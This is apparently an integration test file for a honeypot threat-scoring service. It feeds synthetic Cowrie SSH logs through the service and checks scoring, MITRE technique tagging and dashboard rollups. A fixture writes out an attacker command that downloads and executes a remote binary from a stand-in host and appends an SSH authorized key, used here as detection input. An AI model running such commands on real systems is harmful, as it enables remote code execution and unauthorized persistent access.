import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import pg from 'pg'
import { afterAll, beforeAll, describe, expect, inject, test } from 'vitest'
import { startTestPlatform, type TestPlatform } from '../../testing/test-platform.js'
import { until } from '../../testing/until.js'
import { THREAT_MODEL } from './models/model-file.js'
import { levelOf } from './scorer.js'

const record = (session: string, ip: string, second: number, details: object) =>
  JSON.stringify({
    session,
    src_ip: ip,
    sensor: 'cowrie-1',
    timestamp: `2026-03-22T12:00:${String(second).padStart(2, '0')}.000000Z`,
    ...details,
  })

const implant = (session: string, ip: string) =>
  [
    record(session, ip, 0, { eventid: 'cowrie.session.connect', protocol: 'ssh' }),
    record(session, ip, 1, { eventid: 'cowrie.login.success', username: 'root', password: 'root' }),
    record(session, ip, 2, { eventid: 'cowrie.command.input', input: 'uname -a; cat /proc/cpuinfo' }),
    record(session, ip, 3, {
      eventid: 'cowrie.command.input',
      input: 'wget http://192.0.2.1/x; chmod 777 x; ./x; echo key >> ~/.ssh/authorized_keys',
    }),
  ].join('\n')

describe.each(inject('postgresServers'))('scoring on $version', (server) => {
  let api: TestPlatform
  let directory: string
  let modelFile: string
  let admin: string

  beforeAll(async () => {
    directory = mkdtempSync(join(tmpdir(), 'eviltwin-model-'))
    modelFile = join(directory, 'threat.json')
    api = await startTestPlatform(server, { environment: { THREAT_MODEL_FILE: modelFile } })
    admin = await api.login()
  })
  afterAll(async () => {
    await api?.close()
    rmSync(directory, { recursive: true, force: true })
  })

  const get = async (path: string) => (await api.call(path, { as: admin })).json()
  const isLoaded = async () => (await get('/health')).model_loaded as boolean
  const scoreOf = async (ip: string) => {
    const [{ id }] = (await get(`/sessions?src_ip=${ip}`)).items
    return get(`/sessions/${id}`)
  }
  const metric = async (name: string) =>
    Number(new RegExp(`^${name} (\\d+)$`, 'm').exec(await (await api.call('/metrics')).text())?.[1])
  const sql = async (text: string) => {
    const client = new pg.Client({ connectionString: api.databaseUrl })
    await client.connect()
    const { rows } = await client.query(text)
    await client.end()
    return rows
  }
  const stored = () =>
    sql(
      `SELECT (SELECT json_agg(r ORDER BY span, bucket, threat_level) FROM session_rollups r WHERE sessions <> 0) AS rollups,
        (SELECT json_agg(x ORDER BY span, bucket, threat_level) FROM (
          SELECT span, date_trunc(span, started_at) AS bucket, sensor_id, threat_level, count(*) AS sessions
          FROM sessions, (VALUES ('minute'), ('hour')) AS spans(span) GROUP BY 1, 2, 3, 4) x) AS recounted,
        (SELECT bool_and(a.threat_score = (SELECT max(threat_score) FROM sessions s WHERE s.source_ip = a.source_ip))
          FROM attackers a) AS as_severe_as_the_most_severe`,
    )

  test('without a model rules score, and say so; with it, it scores, and judges what rules had to', async () => {
    expect(await isLoaded()).toBe(false)
    expect((await api.send(implant('a1', '203.0.113.1'), NDJSON)).status).toBe(200)
    expect(await scoreOf('203.0.113.1')).toMatchObject({ score: { scorer: 'rules-3' } })
    expect(await metric('scoring_degraded_count_total')).toBeGreaterThan(0)
    expect(await metric('scoring_ml_count_total')).toBe(0)
    expect(await get('/scoring')).toMatchObject({ model_loaded: false, scorer: 'rules-3', drift: null })

    // As 0.1.0 left it: more behaviours than there were, and no techniques.
    await sql(
      `UPDATE sessions SET signals = '{discovery,lateral_movement}', techniques = '{}', behaviours_version = 0
      WHERE source_ip = '203.0.113.1'`,
    )
    const alertsBefore = (await get('/alerts?count=true')).total

    writeFileSync(modelFile, readFileSync(THREAT_MODEL))
    await until(isLoaded)
    const { scorer } = await get('/scoring')
    expect(scorer).toMatch(/^model-[0-9a-f]{12}$/)
    await until(async () => (await scoreOf('203.0.113.1')).score.scorer === scorer)

    const reread = await scoreOf('203.0.113.1')
    expect(reread.techniques.map(({ id }: { id: string }) => id)).toEqual(
      expect.arrayContaining(['T1082', 'T1098.004', 'T1105']),
    )
    expect((await get('/sessions?signal=lateral_movement')).items).toEqual([])
    expect((await get('/alerts?count=true')).total).toBe(alertsBefore)

    expect((await api.send(implant('a2', '203.0.113.2'), NDJSON)).status).toBe(200)
    const session = await scoreOf('203.0.113.2')
    expect(session.score.scorer).toBe(scorer)
    const names = session.score.reasons.map(({ name }: { name: string }) => name)
    expect(names).toEqual(expect.arrayContaining(['base_rate', 'persistence']))
    expect(session.techniques.map(({ id }: { id: string }) => id)).toEqual(
      expect.arrayContaining(['T1105', 'T1098.004']),
    )
    expect(['high', 'critical']).toContain(session.threat_level)
    expect(await metric('scoring_ml_count_total')).toBeGreaterThan(0)
    const [{ rollups, recounted, as_severe_as_the_most_severe }] = await stored()
    expect(rollups).toEqual(recounted)
    expect(as_severe_as_the_most_severe).toBe(true)
  }, 60_000)

  test('a model that breaks is no model until it is whole again, without a restart', async () => {
    writeFileSync(modelFile, readFileSync(THREAT_MODEL, 'utf8').slice(0, 5_000))
    await until(async () => !(await isLoaded()))
    expect(api.logged).toContainEqual(
      expect.objectContaining({ level: 'WARNING', message: 'A model cannot be used; rules take its place' }),
    )
    const { threat_level } = await (
      await api.send(record('a3', '203.0.113.3', 1, { eventid: 'cowrie.session.connect' }))
    ).json()
    expect(threat_level).toBe('low')
    writeFileSync(modelFile, readFileSync(THREAT_MODEL))
    await until(isLoaded)
  }, 60_000)

  test('what an attacker did on other sensors counts for the attacker, and for none of its sessions', async () => {
    const contact = (session: string, ip: string) =>
      record(session, ip, 30, { eventid: 'cowrie.session.connect', sensor: 'cowrie-2' })
    const [known, stranger] = await Promise.all(
      [contact('b1', '203.0.113.2'), contact('b2', '203.0.113.9')].map(async (line) =>
        (await api.send(line)).json(),
      ),
    )
    expect(known.threat_score).toBe(stranger.threat_score)
    const [highest, own, single] = await Promise.all([
      sql(`SELECT max(threat_score) AS score FROM sessions WHERE source_ip = '203.0.113.2'`),
      get('/score/203.0.113.2'),
      get('/score/203.0.113.9'),
    ])
    expect(own.threat_score).toBeGreaterThan(highest[0].score)
    expect(single.threat_score).toBe(stranger.threat_score)
  })

  test('the database has the same levels as the scorers', async () => {
    const rows = await sql(
      'SELECT n / 1000.0::float8 AS score, threat_level_of(n / 1000.0::float8) AS level FROM generate_series(0, 1000) n',
    )
    for (const { score, level } of rows) expect(level).toBe(levelOf(score))
  })

  test('techniques are counted by session and tactic', async () => {
    const hours = Math.ceil((Date.now() - Date.parse('2026-03-22T00:00:00Z')) / 3_600_000)
    const wide = Math.min(hours, 24 * 92)
    expect((await api.call(`/dashboard/attack-matrix?hours=${24 * 93}`, { as: admin })).status).toBe(422)
    const recent = implant('c1', '203.0.113.4').replaceAll(
      '2026-03-22',
      new Date().toISOString().slice(0, 10),
    )
    await api.send(recent.replaceAll('T12:00:', 'T00:00:'), NDJSON)
    const { tactics } = await get(`/dashboard/attack-matrix?hours=${wide}`)
    const idsOf = (tactic: string): string[] =>
      tactics
        .find(({ name }: { name: string }) => name === tactic)
        .techniques.map(({ id }: { id: string }) => id)
    // Statements showed keys being written: no job, service or account.
    expect(idsOf('Persistence')).toEqual(expect.arrayContaining(['T1078', 'T1098.004']))
    expect(idsOf('Persistence')).not.toContain('T1053.003')
    for (const tactic of ['Initial Access', 'Privilege Escalation', 'Defense Evasion'])
      expect(idsOf(tactic)).toContain('T1078')
    const withKeys = (await get('/sessions?technique=T1098.004')).items
    expect(withKeys.length).toBeGreaterThanOrEqual(3)
    expect((await get('/sessions?technique=T1053.003')).items).toEqual([])
    expect((await get('/sessions?signal=persistence')).items.length).toBeGreaterThanOrEqual(3)
    expect((await get('/sessions?signal=destruction')).items).toEqual([])
  })
})

const NDJSON = { 'content-type': 'application/x-ndjson' }
